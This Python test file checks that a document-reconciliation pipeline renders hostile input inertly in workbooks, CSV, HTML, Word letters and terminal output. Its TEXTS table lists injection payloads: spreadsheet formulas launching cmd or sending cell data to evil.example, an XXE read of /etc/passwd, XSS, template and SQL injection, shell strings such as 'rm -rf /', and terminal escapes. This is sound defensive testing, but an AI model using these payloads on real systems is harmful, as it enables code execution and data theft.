"""Texts that mean harm, through everything that shows or writes them: they stay text.

Each text stands wherever a submitted file, the plan or a colleague can put it: title, number,
agency, folder and file name, passages, and the reason, note and owner of decisions. Everything is
written once for all texts and read again by those who would act on them.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from urllib.parse import unquote

import docx
import pytest
from lxml import etree, html
from openpyxl import load_workbook

from extractors.document import Anchor
from pipeline.cli import main
from pipeline.decisions.log import Actor, Wanted, take
from pipeline.findings import code_of
from pipeline.outputs.clean import for_cell, for_csv
from pipeline.outputs.lines import print_findings, write_lines
from pipeline.outputs.page import write_page
from pipeline.outputs.report import Report
from pipeline.outputs.terminal import print_summary
from pipeline.outputs.workbook import write_workbook
from pipeline.plans.dates_workbook import write_dates
from pipeline.plans.plan_workbook import write_plan_workbook
from pipeline.plans.plan_workbook_read import read_plan_workbook
from pipeline.reminders.make import make_letters
from pipeline.reminders.order import Order
from pipeline.review.desk import Desk
from pipeline.storage.store import Run, Store
from pipeline.storage.stored import load_report
from pipeline.summary.document import summarise
from rules.agencies import load
from rules.catalogue import rulebook
from rules.model.dossier import Finding, Status
from rules.model.papers import Band, Header, Period, Role
from tests import factories as make
from tests.pipeline.outputs import scene
from tests.pipeline.review.conftest import Browser

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TEXTS = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1+1)",
    "after a tab": "\t=1+1",
    "after a line": "\r\n=1+1",
    "after blanks": "   =1+1",
    "after a hard blank": "\u00a0=1+1",
    "after nothing to see": "\u200b\ufeff=1+1",
    "after a wide blank": "\u3000=1+1",
    "after a control character": "\x00=1+1",
    "program": "=cmd|' /C calc'!A0",
    "program by a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program as an item of a list": "- cmd|' /C calc'!A0",
    "function as an item of a list": '+ HYPERLINK("http://evil.example";"x")',
    "DDE": '=DDE("cmd";"/C calc";"x")',
    "HYPERLINK": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "WEBSERVICE": '=WEBSERVICE("http://evil.example/"&A1)',
    "other workbook": "='file:///etc/[passwd]Sheet1'!A1",
    "OpenFormula": "of:=1+1",
    "OpenFormula call": 'of:=WEBSERVICE("http://evil.example/")',
    "matrix formula": "{=1+1}",
    "script": "<script>window.ran=1</script>",
    "event": "<img src=x onerror=window.ran=1>",
    "attribute": "\"'><svg onload=window.ran=1>",
    "end of a style": "</style></title></textarea><script>window.ran=1</script>",
    "comment": "--><!-- x",
    "entities": "&lt;b&gt; &amp; &#60;script&#62; & < > \" '",
    "CDATA": "]]><x/><![CDATA[",
    "XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "Word XML": "</w:t></w:r><w:fldSimple w:instr='DATE'/>",
    "Excel escape": "_x003D_1+1 _x0000_",
    "template": "{{ 7*7 }} {{ ''.__class__ }}",
    "template loop": "{% for x in range(9) %}7{% endfor %} {# x #}",
    "template of Word": "{%tr for x in items %} {{r x }}",
    "markdown": "[bấm](http://evil.example) ![x](http://evil.example/x.png) # **x**",
    "web address": "http://evil.example/x",
    "mail address": "mailto:a@evil.example",
    "file address": "file:///etc/passwd",
    "javascript address": "javascript:window.ran=1",
    "place in the workbook": "internal:'Tổng hợp'!A1",
    "link to outside": "external:http://evil.example",
    "network folder": "\\\\evil.example\\share\\x",
    "colour": "\x1b[31mđỏ\x1b[0m\x1b[2J\x1b[H",
    "title and link of a terminal": "\x1b]0;x\x07\x1b]8;;http://evil.example\x1b\\bấm\x1b]8;;\x1b\\",
    "one-byte escape": "\x9b31mđỏ \x9d0;x\x9c",
    "back over it": "Đạt\x08\x08\x08\rChưa",
    "marks of rich": "[red]đỏ[/red] [link=http://evil.example]x[/link] [/] [[",
    "right to left": "fdp.\u202exslx.exe",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e\u200ff\u061c",
    "lone surrogate": "một\ud800hai\udcff",
    "NUL": "một\x00hai",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9f",
    "no characters": "\ufffe\uffff\ufdd0",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "lines": "a\u2028b\u2029c\x0bd\x0ce",
    "long": "x" * 33_000,
    "long formula": "=" + "1+" * 16_500 + "1",
    "marks on a letter": "z" + "\u0301" * 400,
    "separators": 'a,b;c\t"d""e"\r\nf\n=1+1',
    "shell": "$(reboot) `reboot` ; rm -rf / | x",
    "database": "'; DROP TABLE findings; --",
    "folders": "../../etc/passwd",
    "Windows device": "CON",
}  # fmt: skip
ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff"
    "\ufdd0-\ufdef\ufffe\uffff\U000e0000-\U000e007f]|[\u0300-\u036f]{5}"
)
WHEN = datetime(2024, 12, 21, 8)
PRINTS = [f"{number:032x}" for number in range(1, len(TEXTS) + 1)]
NAMES = [f"so-{number}" for number in range(1, len(TEXTS) + 1)]


def hostile_run(texts: dict[str, str]) -> Report:
    """One agency, task, paper, finding and obligation for each text."""
    lists: dict[str, list[object]] = {
        name: [] for name in ("papers", "statements", "matches", "citations", "judgements")
    }
    agencies, tasks, found = [], [], []
    for number, (text, id) in enumerate(zip(texts.values(), NAMES, strict=False), 1):
        agencies.append(make.agency(id, text, signs=(text,), abbreviations=(text,)))
        tasks.append(
            make.task(f"I.{number}", text=text, outputs=(text, "Báo cáo"), leads=(text,),
                      coordinating=(text,), deadlines=(text,), section="I")
        )  # fmt: skip
        due = make.obligation(
            f"I.{number}", id, output=text, deadline=make.deadline(text, "unclear", None, None)
        )
        lists["judgements"] += [
            make.judgement(Status.LATE, due, reason=text, reason_en=text, document_id=f"d{number}"),
            make.judgement(Status.MISSING, make.obligation(f"I.{number}", id, 2, output="Báo cáo")),
        ]
        header = Header(text, text, text, text, None, text, text, text, text, text)
        lists["papers"] += [
            make.paper(f"d{number}", path=f"{text}/{text}", header=header, sender_id=id),
            make.unreadable_paper(f"u{number}", path=f"{text}/u", sender_id=id, read_detail=text),
            make.paper(f"r{number}", path=f"{text}/r", header=header, sender_id=id,
                       role=Role.REPORT_YEAR, period=Period("year", 2024)),
        ]  # fmt: skip
        of = f"d{number}#1"
        lists["statements"].append(make.statement(of, f"d{number}", text=text, heading=text))
        lists["matches"].append(
            make.match(f"d{number}", f"I.{number}", statement_id=of, band=Band.UNSURE,
                       score=0.4, reasons=(text,))
        )  # fmt: skip
        lists["citations"].append(
            make.citation(f"d{number}", text=text, title=text, number=text, symbol=text)
        )
        found += findings_of(number, text, due.id)
    return make.run_report(
        plan=make.plan(*tasks, title=TEXTS["HYPERLINK"], number=TEXTS["formula"], source="=1.docx",
                       text="\n".join(texts.values()), report_to=TEXTS["script"]),
        as_of=make.AS_OF, agencies=agencies, findings=found, rules=rulebook(),
        notices=tuple(texts.values()), **lists,  # type: ignore[arg-type]
    )  # fmt: skip


def findings_of(number: int, text: str, due: str) -> Iterator[Finding]:
    """A late paper that quotes the text seven times, and a lacking one to remind of."""
    fingerprint = PRINTS[number - 1]
    quoted = make.evidence(
        f"d{number}", path=f"{text}/{text}", quote=text, anchor=Anchor(sheet=text, cell="A1")
    )
    about = {"agency_id": NAMES[number - 1], "task_id": f"I.{number}"}
    yield make.finding(
        code_of(fingerprint), "late-output", fingerprint=fingerprint,
        problem=make.problem(text, message_en=text, evidence=(quoted,) * 7, obligation_id=due,
                             document_id=f"d{number}", subject=text, **about),
    )  # fmt: skip
    other = f"{number + 5000:032x}"
    yield make.finding(
        code_of(other), fingerprint=other,
        problem=make.problem(text, obligation_id=f"I.{number}/2/{NAMES[number - 1]}", output_no=2,
                             **about),
    )  # fmt: skip


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The results folder of that run, decided on with the same texts."""
    return lay(tmp_path_factory.mktemp("kq"), TEXTS)


def lay(folder: Path, texts: dict[str, str]) -> Path:
    """Write the run of some texts and the decisions on it."""
    report = replace(hostile_run(texts), inbox=lay_inbox(folder.parent / "hop"))
    with Store.open(folder / "doichieu.db") as store:
        store.write_run(report, Run(WHEN, WHEN, "=1"))
    with Store.decide(folder / "doichieu.db") as store:
        for print_, text in zip(PRINTS, texts.values(), strict=False):
            by = Actor(text)
            kinds = [("misread", {}), ("assign", {"owner": text}), ("confirm", {})]
            for kind, value in kinds:
                wanted = [Wanted(print_, kind, value, reason=text, note=text)]
                assert not take(store, wanted, by, "page", WHEN).refused
            other = f"{int(print_, 16) + 5000:032x}"
            assert not take(store, [Wanted(other, "confirm", note=text)], by, "page", WHEN).refused
    return folder


def lay_inbox(inbox: Path) -> Path:
    """Those files whose names a disk can hold, so that the links to them are made."""
    for text in TEXTS.values():
        try:
            (inbox / text).mkdir(parents=True, exist_ok=True)
            (inbox / text / text.replace("/", "")).write_bytes(b"")
        except (OSError, ValueError):
            continue
    inbox.mkdir(exist_ok=True)
    return inbox


@pytest.fixture(scope="module")
def report(out: Path) -> Report:
    return load_report(out / "doichieu.db")


Make = Callable[[Path, Report], Path]


def workbook(out: Path, report: Report) -> Path:
    write_workbook(report, out / "sai-lech.xlsx")
    return out / "sai-lech.xlsx"


def streamed(out: Path, report: Report) -> Path:
    write_workbook(report, out / "lon.xlsx", streamed=1)
    return out / "lon.xlsx"


def plan_workbook(out: Path, report: Report) -> Path:
    write_plan_workbook(report.plan, out / "ke-hoach.xlsx")
    return out / "ke-hoach.xlsx"


def dates(out: Path, report: Report) -> Path:
    obligations = [one.obligation for one in report.judgements]
    entered = {"x": dict.fromkeys(("words", "base", "paper", "due"), TEXTS["formula"])}
    write_dates(report.plan, load(), obligations, out / "han.xlsx", entered)
    return out / "han.xlsx"


def letters(out: Path, _report: Report) -> Path:
    if not (out / "cong-van").exists():
        order = Order(out=out, plan_number="11/KH-UBND", plan_date=date(2024, 1, 10),
                      sender=TEXTS["script"], by="lan")  # fmt: skip
        make_letters(order, WHEN)
    return next(out.rglob("danh-sach.xlsx"))


WORKBOOKS = (workbook, streamed, plan_workbook, dates, letters)


@pytest.mark.parametrize("make_it", WORKBOOKS, ids=lambda one: one.__name__)
def test_a_workbook_holds_text_alone(make_it: Make, out: Path, report: Report) -> None:
    file = make_it(out, report)
    lead = make_it is not plan_workbook  # read back as it is: kept by the cell's format
    assert only_text(file, lead) > len(TEXTS)
    with zipfile.ZipFile(file) as package:
        names = package.namelist()
        assert not [one for one in names if "externalLink" in one or "vba" in one.lower()]
        for name in names:
            if name.endswith((".xml", ".rels")):
                etree.fromstring(package.read(name))


def only_text(file: Path, lead: bool = True) -> int:
    """How many texts a workbook holds; no formula, no link but to the inbox, nothing that acts."""
    texts = 0
    book = load_workbook(file)
    assert not book.defined_names.get("evil")
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            if cell.hyperlink is not None and cell.hyperlink.target:
                target = unquote(cell.hyperlink.target, errors="surrogateescape")
                assert target.startswith("../hop"), target
            if not isinstance(cell.value, str):
                continue
            texts += 1
            assert not ACTS.search(cell.value), (sheet.title, cell.coordinate, cell.value[:80])
            assert not lead or cell.value == for_cell(cell.value), (cell.coordinate, cell.value)
            assert len(cell.value) <= 32_000
    return texts


def test_what_is_cut_is_seen_to_be_cut(out: Path, report: Report) -> None:
    sheet = load_workbook(plan_workbook(out, report))["Nhiệm vụ"]
    long = [cell.value for cell in sheet["D"] if str(cell.value).startswith("xx")]
    assert [(len(one), one[-2:]) for one in long] == [(32_000, "x…")]


def test_the_plan_workbook_is_read_back(out: Path, report: Report) -> None:
    back = read_plan_workbook(plan_workbook(out, report))
    texts = {task.text for task in back.tasks}
    assert {"=1+1", "- cmd|' /C calc'!A0", "{{ 7*7 }} {{ ''.__class__ }}"} <= texts


def office(folder: Path, kind: str, *files: Path, options: tuple[str, ...] = ()) -> Path:
    """Files as LibreOffice opens and saves them, in a folder."""
    assert SOFFICE
    profile = f"-env:UserInstallation={(folder.parent / 'profile').as_uri()}"
    subprocess.run(
        [SOFFICE, "--headless", "--norestore", profile, *options,
         "--convert-to", kind, "--outdir", str(folder), *map(str, files)],
        check=True, timeout=300, capture_output=True,
    )  # fmt: skip
    return folder


@pytest.mark.skipif(SOFFICE is None, reason="needs LibreOffice (soffice)")
def test_libreoffice_computes_nothing(tmp_path: Path) -> None:
    # Fitting rows to texts of 33,000 characters takes it minutes.
    out = lay(tmp_path / "kq", {name: text[:500] for name, text in TEXTS.items()})
    report = load_report(out / "doichieu.db")
    files = [make_it(out, report) for make_it in WORKBOOKS]
    office(tmp_path / "mo", "xlsx", *files)
    for file in files:
        book, ours = load_workbook(tmp_path / "mo" / file.name), load_workbook(file)
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            place = (file.name, cell.parent.title, cell.coordinate)
            assert cell.data_type != "f", (place, cell.value)
            if cell.hyperlink is not None and cell.hyperlink.target:
                assert "hop/" in cell.hyperlink.target.partition("evil")[0], place
            same = ours[cell.parent.title][cell.coordinate].value
            if isinstance(same, str) and isinstance(cell.value, str):
                assert cell.value.split() == same.split(), place


@pytest.mark.skipif(SOFFICE is None, reason="needs LibreOffice (soffice)")
def test_libreoffice_computes_nothing_in_a_csv(
    out: Path, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    print_findings(out, "csv", "vi")
    (tmp_path / "sai-lech.csv").write_bytes(capfdbinary.readouterr().out)
    evaluating = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    office(tmp_path / "mo", "xlsx", tmp_path / "sai-lech.csv", options=(evaluating,))
    sheet = load_workbook(tmp_path / "mo" / "sai-lech.xlsx").worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(TEXTS)
    assert not [cell.value for cell in cells if cell.data_type == "f"]


def test_csv_fields_are_no_formulas(out: Path, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    print_findings(out, "csv", "vi")
    findings = capfdbinary.readouterr().out.decode("utf-8-sig")
    log = Browser(Desk(out, alone="=1+1")).enter().get("/nhat-ky.csv").content.decode("utf-8-sig")
    for text, rows in ((findings, 2 * len(TEXTS) + 1), (log, 4 * len(TEXTS) + 1)):
        found = list(csv.reader(io.StringIO(text)))
        assert len(found) == rows
        assert len({len(row) for row in found}) == 1
        for field in (field for row in found for field in row):
            assert field == for_csv(field)
            assert not ACTS.search(field)


def test_lines_of_json(
    out: Path, report: Report, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    write_lines(report, out / "findings.jsonl")
    print_findings(out, "json", "vi")
    lines = (out / "findings.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert len(lines) == 2 * len(TEXTS) == len(json.loads(capfdbinary.readouterr().out))
    for line in lines:
        assert not ACTS.search(line)
        assert json.loads(line)["code"]


def inert(page: str, scripts: int) -> None:
    """A page that runs and calls nothing that a text brought."""
    tree = html.fromstring(page)
    assert len(tree.xpath("//script")) <= scripts
    assert not tree.xpath(
        "//svg[@onload]|//img[@onerror]|//iframe|//object|//embed|//base|//meta[@http-equiv='refresh']"
    )
    for element in tree.iter(etree.Element):
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if name in ("href", "src", "action", "formaction", "data", "xlink:href"):
                address = value.strip().lower()
                assert not address.startswith(("javascript:", "http", "//", "\\", "mailto:"))
                assert not re.match(r"file:|data:(?!image/)", address), address
    assert "49 {{" not in page
    assert not ACTS.search(page)


def test_the_page_to_print(out: Path, report: Report) -> None:
    write_page(report, out / "bao-cao.html")
    page = (out / "bao-cao.html").read_text(encoding="utf-8")
    write_page(replace(report, lang="en"), out / "en.html")
    write_page(scene.report(), out / "khac.html")
    ours = (out / "khac.html").read_text(encoding="utf-8").count("<script")
    inert(page, ours)
    inert((out / "en.html").read_text(encoding="utf-8"), ours)


@pytest.mark.parametrize(
    "address",
    ["/", "/bang", "/van-ban", "/van-ban?vien-dan=1", "/san-pham", "/lan-chay", "/nhat-ky",
     "/van-ban/d1", "/nhap"],
)  # fmt: skip
def test_the_review_page(out: Path, address: str) -> None:
    answer = Browser(Desk(out, alone=TEXTS["event"])).enter().get(address)
    assert answer.status_code in (200, 404)
    inert(answer.text, 6)


def test_a_finding_on_the_review_page(out: Path) -> None:
    browser = Browser(Desk(out, alone=TEXTS["event"])).enter()
    for number, fingerprint in enumerate(PRINTS, 1):
        for address in (f"/sai-lech/{code_of(fingerprint)}", f"/van-ban/d{number}"):
            answer = browser.get(address)
            assert answer.status_code < 500, (address, TEXTS)
            inert(answer.text, 6)


def word_is_text(file: Path) -> str:
    """The words of a Word file without fields, links or parts that a text brought."""
    with zipfile.ZipFile(file) as package:
        for name in package.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            tree = etree.fromstring(package.read(name))
            for element in tree.iter(etree.Element):
                tag = etree.QName(element).localname
                assert tag not in ("hyperlink", "altChunk", "object"), name
                if tag == "instrText":
                    assert (element.text or "").strip() in ("PAGE", "NUMPAGES")
                if tag == "fldSimple":
                    assert element.get(f"{{{element.nsmap['w']}}}instr", "").strip() == "PAGE"
                assert element.get("TargetMode") != "External"
    words = "\n".join("".join(p.itertext()) for p in docx.Document(str(file)).element.body)
    assert not ACTS.search(words)
    return words


def test_letters_are_text(out: Path, report: Report) -> None:
    files = sorted(letters(out, report).parent.glob("*.docx"))
    assert len(files) > len(TEXTS) - 5
    words = "\n".join(map(word_is_text, files))
    for name in ("formula", "template", "XML", "marks of rich", "entities"):
        assert " ".join(TEXTS[name].split()) in words, name


def test_the_summary_is_text(out: Path) -> None:
    assert word_is_text(summarise(out))


@pytest.mark.skipif(SOFFICE is None, reason="needs LibreOffice (soffice)")
def test_libreoffice_opens_the_word_files(out: Path, report: Report, tmp_path: Path) -> None:
    some = sorted(letters(out, report).parent.glob("*.docx"))[:1]
    files = (summarise(out), *some)
    office(tmp_path / "mo", "pdf", *files)
    for file in files:
        assert (tmp_path / "mo" / f"{file.stem}.pdf").stat().st_size > 5_000


@pytest.fixture
def call(monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> Callable[..., str]:
    """What a command prints, on both streams."""

    def run(*words: object) -> str:
        monkeypatch.setattr("sys.argv", ["doichieu", *map(str, words)])
        with pytest.raises(SystemExit) as ended:
            main()
        assert ended.value.code != 70
        captured = capfd.readouterr()
        return captured.out + captured.err

    return run


def harmless(printed: str) -> None:
    """Nothing in it moves the cursor, colours, links or hides."""
    assert printed
    found = ACTS.search(printed.replace("\r\n", "\n"))
    assert not found, printed[max(0, found.start() - 60) : found.end() + 20].encode()


def test_what_commands_print(out: Path, report: Report, call: Callable[..., str]) -> None:
    harmless(call("findings", "--out", out))
    log = call("decisions", "--out", out)
    harmless(log)
    assert len(log.splitlines()) == 4 * len(TEXTS), "one line each"
    harmless(call("summary", "--out", out))
    harmless(call("import", workbook(out, report), "--out", out))
    plain = call("plan", plan_workbook(out, report), "--json")
    harmless(plain)
    assert len(json.loads(plain)["tasks"]) == len(TEXTS)
    shorter = short_plan(out, report)
    harmless(call("plan", shorter))
    harmless(call("plan-diff", shorter, shorter))


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_what_explain_prints(out: Path, call: Callable[..., str], lang: str) -> None:
    for fingerprint in PRINTS:
        harmless(call("explain", code_of(fingerprint), "--out", out, "--lang", lang))


def test_the_summary_of_a_run(report: Report, capfd: pytest.CaptureFixture[str]) -> None:
    for text in TEXTS.values():
        print_summary(report, Path(text.replace("\x00", "")))
    captured = capfd.readouterr()
    harmless(captured.out + captured.err)


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_typed_on_the_command_line(out: Path, name: str, call: Callable[..., str]) -> None:
    text = TEXTS[name].replace("\x00", "").replace("\ud800", "") or "x"  # no shell passes these on
    harmless(call("read", text))
    harmless(call("attach", code_of(PRINTS[0]), text, "--out", out, "--reason", text))
    harmless(call("run", text, "--plan", text, "--out", out / "x"))


@pytest.mark.parametrize("name", ["colour", "title and link of a terminal", "long", "back over it"])
def test_other_commands_told_a_text(out: Path, name: str, call: Callable[..., str]) -> None:
    text = TEXTS[name]
    for words in (
        ("plan", text), ("explain", text, "--out", out), ("rules", text), ("summary", text),
        ("findings", "--out", text), ("import", text, "--out", out), ("decisions", "--out", text),
        ("letters", "--out", out, "--agency", text), ("agencies", "check", text), (text,),
        ("plan-diff", text, text), ("match", text, "--plan", text),
    ):  # fmt: skip
        harmless(call(*words))


def short_plan(out: Path, report: Report) -> Path:
    """The plan without its longest texts, for commands that read it again and again."""
    tasks = tuple(task for task in report.plan.tasks if len(task.text) < 1_000)
    write_plan_workbook(replace(report.plan, tasks=tasks), out / "ngan.xlsx")
    return out / "ngan.xlsx"


def test_words_matched(out: Path, report: Report, call: Callable[..., str], tmp_path: Path) -> None:
    plan = short_plan(out, report)
    rows = [{"id": text, "text": text, "agency": text, "doc_type": text} for text in TEXTS.values()]
    source, target = tmp_path / "vào.jsonl", tmp_path / "ra.jsonl"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    printed = call("match", "--plan", plan, "--input", source)
    harmless(printed)
    call("match", "--plan", plan, "--input", source, "--output", target)
    answers = target.read_text(encoding="utf-8").splitlines()
    assert len([json.loads(line) for line in answers]) == len(TEXTS)
    harmless(call("match", "--plan", plan, "\x1b[31m evil.example [red]đỏ[/red] window.ran"))
